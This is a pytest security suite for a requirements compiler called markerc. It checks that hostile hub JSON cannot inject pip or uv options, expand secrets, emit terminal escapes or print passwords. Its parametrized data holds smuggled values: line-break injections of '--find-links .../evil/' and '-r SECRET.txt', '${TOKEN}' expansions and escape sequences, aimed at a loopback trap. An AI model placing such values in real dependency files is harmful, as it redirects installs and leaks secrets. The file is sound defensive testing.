"""Hostile hub JSON (issue 9, docs/security.md): nothing a model file says steers pip or uv,
expands a secret, reaches the terminal as a control sequence or prints a password.

Every class runs through the CLI; where markerc writes an output, real pip
(``pip install --dry-run --no-deps --no-index --find-links WHEELS -r OUT``) and real uv
(``uv pip compile OUT --no-index --find-links WHEELS``) read it while a loopback server
(:mod:`tests.trap`) records every request: the hostile values point at that server and at a
canary file (``SECRET.txt``) which would make pip and uv contact it if they read it.  A control
test shows that the harness does catch a line that gets through.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from markerc.backends.uvtool import uv_bin
from tests.cli_helpers import run_markerc
from tests.trap import Trap, canary
from tests.wheelhouse import UNSET_ENV, build_wheelhouse

#: what pip (``str.splitlines``) or uv read as a line break
BREAKS = ["\n", "\r", "\r\n", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e"]
TOKEN = "tok-3141592653-secret"


@pytest.fixture
def trap():
    with Trap() as server:
        yield server


@pytest.fixture
def work(tmp_path, trap):
    """A folder with a wheelhouse, the canary SECRET.txt and a clean installer environment."""
    build_wheelhouse(tmp_path / "wheels", [("alpha", "1.0"), ("beta", "1.0")])
    canary(tmp_path, trap)
    return tmp_path


def _env(tmp_path: Path) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k not in UNSET_ENV}
    env.update(
        PIP_CONFIG_FILE=os.devnull, PIP_DISABLE_PIP_VERSION_CHECK="1", UV_NO_CONFIG="1",
        UV_CACHE_DIR=str(tmp_path / "uv-cache"), UV_PYTHON_DOWNLOADS="never", TOKEN=TOKEN,
    )  # fmt: skip
    return env


def pip_reads(req: Path, work: Path) -> subprocess.CompletedProcess[str]:
    cmd = [sys.executable, "-m", "pip", "install", "--dry-run", "--no-deps", "--no-index",
           "--find-links", str(work / "wheels"), "-r", str(req)]  # fmt: skip
    return subprocess.run(cmd, cwd=work, env=_env(work), capture_output=True, text=True, timeout=120, check=False)


def uv_reads(req: Path, work: Path) -> subprocess.CompletedProcess[str]:
    cmd = [uv_bin(), "pip", "compile", str(req), "--no-index", "--find-links", str(work / "wheels"),
           "--python", sys.executable, "--no-header", "-q"]  # fmt: skip
    return subprocess.run(cmd, cwd=work, env=_env(work), capture_output=True, text=True, timeout=120, check=False)


def _hub(work: Path, packages: list[str], name: str = "demo", file: str = "hub.json", **block: object) -> str:
    path = work / file
    path.write_text(json.dumps([{"model_name": name, "virtualenv": {"packages": packages, **block}}]), encoding="utf-8")
    return str(path)


def _markerc(work: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return run_markerc(*args, cwd=work, env_extra={"TOKEN": TOKEN})


def _refused(work: Path, hub: str, code: str, trap: Trap) -> None:
    """compile, check and lock all refuse ``hub`` with ``code`` at a file position; nothing is
    written, nothing reaches the trap, no secret is printed."""
    out = work / "out.txt"
    r = _markerc(work, "compile", hub, "--engine", "vllm", "-o", str(out))
    assert r.returncode == 2, (r.stdout, r.stderr)
    assert r.stderr.startswith(f"{hub}:1:") and f": {code} " in r.stderr.splitlines()[0], r.stderr
    assert not out.exists() and "Traceback" not in r.stderr
    c = _markerc(work, "check", hub)
    assert c.returncode == 1 and f": {code} " in c.stdout, c.stdout
    assert r.stderr.splitlines()[0].split(f" {code} ")[0] in c.stdout  # the same position
    lk = _markerc(work, "lock", hub, "--engine", "vllm", "--out", str(work / "locks"), "--format", "requirements")
    assert lk.returncode == 2 and f" {code} " in lk.stderr, lk.stderr
    assert not any((work / "locks").rglob("*.txt")) if (work / "locks").exists() else True
    for text in (r.stdout, r.stderr, c.stdout, c.stderr, lk.stdout, lk.stderr):
        assert TOKEN not in text and "\x1b" not in text
    assert trap.requests == []


# ------------------------------------------------------------------ the harness itself


def test_the_harness_catches_a_line_that_gets_through(work, trap):
    """Without markerc's checks, the issue's attack works: pip and uv contact the trap."""
    req = work / "unsafe.txt"
    req.write_text(f"alpha\n--find-links {trap.url}/evil/\n-r SECRET.txt\n", encoding="utf-8")
    pip_reads(req, work)
    assert any("/evil/" in r for r in trap.requests) and any("/canary/" in r for r in trap.requests)
    before = len(trap.requests)
    uv_reads(req, work)
    assert len(trap.requests) > before


# ------------------------------------------------------------------ option injection


@pytest.mark.parametrize("br", BREAKS, ids=[f"U+{ord(b[0]):04X}{'+LF' if len(b) > 1 else ''}" for b in BREAKS])
def test_model_name_with_a_line_break_is_refused(work, trap, br):
    name = f"demo{br}--find-links {trap.url}/evil/{br}-r SECRET.txt{br}#"
    _refused(work, _hub(work, ["alpha"], name=name), "MK600", trap)


@pytest.mark.parametrize("br", BREAKS, ids=[f"U+{ord(b[0]):04X}{'+LF' if len(b) > 1 else ''}" for b in BREAKS])
def test_find_links_with_a_line_break_is_refused(work, trap, br):
    value = f"wheels{br}-r SECRET.txt{br}--find-links {trap.url}/evil/"
    _refused(work, _hub(work, ["alpha"], find_links=[value]), "MK600", trap)


@pytest.mark.parametrize(
    ("key", "value", "code"),
    [
        ("index_url", "{trap}/simple/\n--find-links {trap}/evil/", "MK600"),
        ("extra_index_url", ["{trap}/simple/ --find-links {trap}/evil/"], "MK604"),
        ("extra_index_url", ["-r SECRET.txt"], "MK604"),
        ("find_links", ["wheels --no-index"], "MK604"),
        ("trusted_host", ["127.0.0.1 --find-links {trap}/evil/"], "MK604"),
        ("trusted_host", ["127.0.0.1\r-r SECRET.txt"], "MK600"),
        ("index_url", "{trap}/${TOKEN}/simple/", "MK601"),
        ("find_links", ["{trap}/${TOKEN}/"], "MK601"),
        ("extra_index_url", ["{trap}/simple/\\"], "MK602"),
        ("trusted_host", ["127.0.0.1\\"], "MK602"),
        ("index_url", "127.0.0.1/simple", "MK605"),
        ("index_url", "ftp://127.0.0.1/simple", "MK605"),
        ("extra_index_url", ["https://mirror.example:port/simple"], "MK605"),
        ("trusted_host", ["not a host!"], "MK604"),
        ("trusted_host", ["host_with_underscore"], "MK605"),
        ("index_url", "{trap}/it's/simple", "MK607"),
        ("find_links", ["C:\\wheels"], "MK607"),
        ("index_url", "{trap}/\x1b]0;TITLE\x07/simple", "MK600"),
    ],
)
def test_package_sources_that_would_steer_pip_are_refused(work, trap, key, value, code):
    def fill(v: str) -> str:
        return v.replace("{trap}", trap.url)

    filled = [fill(v) for v in value] if isinstance(value, list) else fill(value)
    _refused(work, _hub(work, ["alpha"], **{key: filled}), code, trap)


@pytest.mark.parametrize(
    ("entry", "code"),
    [
        ('alpha ; platform_version == "a #b"', "MK603"),
        ('alpha ; platform_version == "x --find-links {trap}/evil/ -r SECRET.txt"', "MK604"),
        ("alpha @ {trap}/${TOKEN}/alpha-1.0-py3-none-any.whl", "MK601"),
        ('alpha ; platform_version == "${TOKEN}"', "MK601"),
        ('alpha ; platform_version == "\x1b]0;TITLE\x07"', "MK600"),
        ('alpha ; platform_version == "\x1b[8m"', "MK600"),
        ('alpha ; platform_version == "a\u202eb"', "MK600"),
        ('alpha ; platform_version == "a\x1cb"', "MK003"),
        ('alpha ; platform_version == "a\x1eb"', "MK003"),
    ],
)
def test_entries_pip_or_uv_would_read_otherwise_are_refused(work, trap, entry, code):
    _refused(work, _hub(work, [entry.replace("{trap}", trap.url)]), code, trap)


def test_hub_file_and_target_names_stay_inside_comments(work, trap):
    """Names markerc writes into its header comments are made inert, and real pip and uv read
    exactly the requirement markerc meant."""
    hub = _hub(work, ["alpha", 'beta ; "#1" in platform_version or python_version >= "3.0"'],
               file="x\n-r SECRET.txt\n${TOKEN}\\.json")  # fmt: skip
    target = work / "t.toml"
    target.write_text(
        'name = "t\\n--find-links ' + trap.url + '/evil/\\n-r SECRET.txt\\u2028--no-index ${TOKEN} \\\\"\n',
        encoding="utf-8",
    )
    out = work / "out.txt"
    r = _markerc(work, "compile", hub, "--engine", "vllm", "--target", str(target), "-o", str(out))
    assert r.returncode == 0, r.stderr
    text = out.read_text(encoding="utf-8")
    assert TOKEN not in text and "${" not in text
    lines = text.splitlines()  # pip's own split
    assert [ln for ln in lines if not ln.startswith("#")][-2:] == [
        "alpha  # model: alpha",
        'beta ; "#1" in platform_version or python_version >= "3.0"  # model: beta ; "#1" in platform_version or python_version >= "3.0"',
    ]
    assert all(ln.startswith(("#", "--extra-index-url https://", "alpha", "beta")) for ln in lines), lines
    p = pip_reads(out, work)
    assert p.returncode == 0 and "alpha" in p.stdout and "beta" in p.stdout, p.stdout + p.stderr
    u = uv_reads(out, work)
    assert u.returncode == 0 and "alpha==1.0" in u.stdout and "beta==1.0" in u.stdout, u.stdout + u.stderr
    assert trap.requests == []


# ------------------------------------------------------------------ the command line and targets


@pytest.mark.parametrize(
    ("args", "code"),
    [
        (["--system", "torch=2.8.0,<1"], "MK606"),
        (["--system", "torch=2.8;os_name=='nt'"], "MK606"),
        (["--system", "torch=2.8\n--no-index"], "MK600"),
        (["--system", "torch=https://127.0.0.1/torch.whl"], "MK606"),
        (["--system", "torch=2.8.0", "--set", "cuda_version=12.8\n--no-index"], "MK600"),
        (["--system", "torch=2.8.0", "--index-url", "https://mirror.example/simple\n-r SECRET.txt"], "MK600"),
        (["--system", "torch=2.8.0", "--extra-index-url", "https://mirror.example/simple --no-index"], "MK604"),
        (["--system", "torch=2.8.0", "--find-links", "wheels\\"], "MK602"),
    ],
)
def test_command_line_values_are_validated(work, trap, args, code):
    hub = _hub(work, ["#system_torch#"])
    r = _markerc(work, "compile", hub, "--engine", "vllm", *args)
    assert r.returncode == 2 and r.stderr.startswith(f"{code} ") and r.stdout == "", r.stderr
    assert "Traceback" not in r.stderr


def test_command_line_may_ask_for_expansion(work, trap):
    """A ``${VAR}`` the user writes on the command line is theirs to expand."""
    hub = _hub(work, ["alpha"])
    r = _markerc(work, "compile", hub, "--engine", "vllm", "--index-url", "https://mirror.example/${TOKEN}/simple")
    assert r.returncode == 0 and "--index-url https://mirror.example/${TOKEN}/simple" in r.stdout, r.stderr
    assert TOKEN not in r.stdout


@pytest.mark.parametrize(("version", "code"), [("2.8.0,<1", "MK606"), ("2.8\\n-r x", "MK600"), ("2.8 ; os_name == 'nt'", "MK606")])
def test_target_system_versions_are_validated(work, version, code):
    hub = _hub(work, ["#system_torch#"])
    target = work / "t.toml"
    target.write_text(f'name = "t"\n[system]\ntorch = "{version}"\n', encoding="utf-8")
    r = _markerc(work, "compile", hub, "--engine", "vllm", "--target", str(target))
    assert r.returncode == 2 and f"{code} " in r.stderr and "system" in r.stderr, r.stderr


def test_unsatisfiable_entry_is_refused_whatever_its_marker(work):
    hub = _hub(work, ['foo>2,<1 ; #engine# == "sglang"'])
    r = _markerc(work, "compile", hub, "--engine", "vllm")
    c = _markerc(work, "check", hub)
    assert r.returncode == 2 and c.returncode == 1
    assert r.stderr.split(" MK502 ")[0] == c.stdout.split(" MK502 ")[0] == f"{hub}:1:57:"


def test_brackets_and_not_inside_a_string_are_text(work):
    entry = 'alpha ; platform_version == "' + "(" * 80 + " not" * 80 + '"'
    r = _markerc(work, "compile", _hub(work, [entry]), "--engine", "vllm")
    assert r.returncode == 0 and "MK005" not in r.stderr, r.stderr


# ------------------------------------------------------------------ terminal


def test_terminal_escapes_never_reach_the_terminal(work):
    hub = _hub(work, ['alpha ; platform_version == "\x1b]0;TITLE\x07"', "beta\x1b[8m"], name="m\x1b[2J")
    runs = [_markerc(work, "check", hub, "--output-format", f) for f in ("full", "concise", "json", "github")]
    runs += [_markerc(work, "compile", hub, "--engine", "vllm"),
             _markerc(work, "explain", hub, "--engine", "vllm", "--model", "m\x1b[2J")]  # fmt: skip
    for r in runs:
        assert r.returncode in (1, 2), r
        assert "\x1b" not in r.stdout + r.stderr and "\x07" not in r.stdout + r.stderr
        assert "MK600" in r.stdout + r.stderr


# ------------------------------------------------------------------ credentials

PASSWORDS = ["PW@at999", "pQw\"x'dZZ", "paSS:woRD:qq", "pXss%40Ywd%3AzZ%2Fd", "s3cr3tpw"]
HOSTS = ["mirror.example", "[::1]:8080", "127.0.0.1:9"]


@pytest.mark.parametrize("password", PASSWORDS)
@pytest.mark.parametrize("host", HOSTS)
def test_credentials_are_never_printed(work, password, host):
    url = f"https://alice:{password}@{host}/simple"
    hub = _hub(work, ["alpha"], extra_index_url=[url, url + " --no-index"])
    outputs = [_markerc(work, "check", hub, "--output-format", f, "--select", "ALL")
               for f in ("full", "concise", "json", "github")]  # fmt: skip
    outputs.append(_markerc(work, "compile", hub, "--engine", "vllm"))  # MK604 names the URL
    hub2 = _hub(work, ["alpha"], file="ok.json", extra_index_url=[url])
    outputs.append(_markerc(work, "install", hub2, "--model", "demo", "--engine", "vllm",
                            "--venv", str(work / "v"), "--dry-run"))  # fmt: skip
    outputs.append(_markerc(work, "install", hub2, "--model", "demo", "--engine", "vllm",
                            "--venv", str(work / "v"), "--dry-run", "--index-url", url))  # fmt: skip
    seen = "".join(r.stdout + r.stderr for r in outputs)
    assert "MK308" in seen and "MK604" in seen
    # pip reads option lines with shlex: a quote in a source is refused (MK607), else installed
    assert ("MK607" in seen) if any(q in password for q in "'\"") else ("uv pip install" in seen), seen
    for r in outputs:
        text = r.stdout + r.stderr
        assert password not in text and "alice" not in text, text
        for part in (p for p in password.replace("%", " ").replace(":", " ").replace("@", " ").split() if len(p) > 3):
            assert part not in text or part in url.split("@")[-1], (part, text)
